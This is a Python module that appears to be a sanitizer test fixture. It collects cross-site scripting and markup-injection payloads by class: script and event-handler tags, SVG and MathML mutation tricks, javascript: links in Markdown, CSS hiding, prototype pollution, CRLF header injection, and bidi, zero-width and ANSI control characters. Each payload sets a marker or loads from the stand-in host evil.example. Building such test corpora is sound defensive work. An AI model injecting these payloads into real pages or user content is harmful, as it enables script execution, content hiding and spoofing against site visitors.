"""Texts by which pages have been made to run, load, hide or reorder something: of each class that is published, some.

Each that runs sets `window.__pwned`; each that loads asks `evil.example`.
"""

from __future__ import annotations

from typing import Final

R: Final = "window.__pwned=1"
H: Final = "https://evil.example"

VECTORS: Final = {
    "script": f"<script>{R}</script><SCRIPT SRC={H}/x.js></SCRIPT><script type=module>{R}</script>",
    "script end": f"</script><script>{R}</script></title></style></textarea></noscript><script>{R}</script>",
    "image": f'<img src=x onerror={R}><img src={H}/i.png><IMG SRC=`x`onerror="{R}"><image href={H}/j>',
    "svg": f"<svg onload={R}><svg><script>{R}</script><animate onbegin={R} attributeName=x dur=1s></svg>",
    "svg use": f"<svg><use href='{H}/u.svg#x'/><foreignObject><iframe src='javascript:{R}'></foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={R}></style></mglyph></table></mtext></math>",
    "style": f"<style>*{{display:none!important}}@import '{H}/s.css';body{{background:url({H}/b)}}</style>",
    "style attribute": f"<p style='position:fixed;inset:0;background:url({H}/c)'>x</p>",
    "iframe": f"<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe><iframe src=javascript:{R}></iframe>",
    "object": f"<object data=javascript:{R}></object><embed src={H}/e.swf><applet code=x></applet>",
    "meta": f"<meta http-equiv=refresh content='0;url={H}/'><base href='{H}/'><link rel=stylesheet href={H}/l>",
    "form": f"<form action={H}><input autofocus onfocus={R}><button formaction=javascript:{R}>x</button></form>",
    "media": f"<video poster={H}/v><source onerror={R}></video><audio src={H}/a onerror={R}></audio>",
    "handlers": f"<body onload={R}><details open ontoggle={R}><select autofocus onfocus={R}><marquee onstart={R}>",
    "template": f"<template><script>{R}</script></template><slot onslotchange={R}></slot>",
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={R}>"><listing>&lt;img src=x onerror={R}&gt;',
    "mutation 2": f"<svg><style><a id=\"</style><img src=1 onerror={R}>\"><xmp><p id='</xmp><img src onerror={R}>'>",
    "comment": f"<!--><img src=x onerror={R}>--><!--[if IE]><script>{R}</script><![endif]--><![CDATA[<script>{R}]]>",
    "entities": f"&lt;script&gt;{R}&lt;/script&gt;&#60;img src=x onerror={R}&#62;&#x3C;b&NewLine;&Tab;&colon;",
    "attribute end": f'" onmouseover="{R}" x="\' onclick=\'{R}\' autofocus tabindex=1 onfocus={R} ',
    "markdown link": f"[a](javascript:{R}) [b](JaVaScRiPt&colon;{R}) [c](data:text/html,<script>{R}</script>)",
    "markdown reference": f"[a]\n\n[a]: javascript:{R}\n[b]: {H}/r\n<javascript:{R}> [x](<javascript:{R}>)",
    "markdown image": f"![a]({H}/m.png) ![b](javascript:{R}) ![c](data:image/svg+xml,<svg onload={R}>)",
    "markdown break": f"```\n</code></pre><script>{R}</script>\n```\n~~~html\n<img src=x onerror={R}>\n~~~\n`<b>`",
    "markdown nesting": "> " * 200 + "x\n" + "- " * 100 + "y\n" + "*" * 500 + "[" * 500 + "`" * 300,
    "links in space": f"[a](\x01javascript:{R}) [b](java\nscript:{R}) [c](java\tscript:{R}) [d](vbscript:x)",
    "template string": f"${{{R}}} `${{{R}}}` {{{{constructor.constructor('{R}')()}}}} <%= {R} %> #{{{R}}}",
    "json": f'"}}]}}</script><script>{R}</script>{{"__proto__":{{"polluted":1}}}}',
    "separators": f"a\u2028{R}\u2029b\x85c\x0bd\x0ce",
    "nul": f"<scr\x00ipt>{R}</scr\x00ipt> a\x00b <\x00img src=x onerror={R}>",
    "controls": "\x01\x02\x07\x08\x1b\x7f\x9b" + "x\ry\r\nz",
    "bidi": "\u202egnp.exe\u202c \u2066a\u2069 \u200f\u061c safe\u202e//eval",
    "zero width": "pass\u200bword a\u200db\ufeff \u00ad\u2060 \U000e0041\U000e0042 x\u0300\u0301" + "\u0489" * 60,
    "ansi": "\x1b[31mred\x1b[0m\x1b[2J\x1b[H\x1b]8;;javascript:1\x07link\x1b]8;;\x07\x1b]0;title\x07\x1b[?1049h\x9b31m",
    "surrogates": "half \ud83d and \udc00 alone",
    "url": f"{H}/?x=<script>{R}</script> javascript:{R} https://a@evil.example:80/%0d%0aSet-Cookie:x",
    "css": f"</style><style>x{{}}*{{display:none}} expression({R}) url(javascript:{R}) ;}}body{{visibility:hidden",
    "numbers": "NaN Infinity -0 1e999 99999999999999999999",
    "spaces": "a" + " " * 500 + "b" + "\n" * 300 + "c" + "\t" * 100 + "d",
}
"""By class."""

ALL: Final = "\n\n".join(VECTORS.values())
"""All of them in one text."""
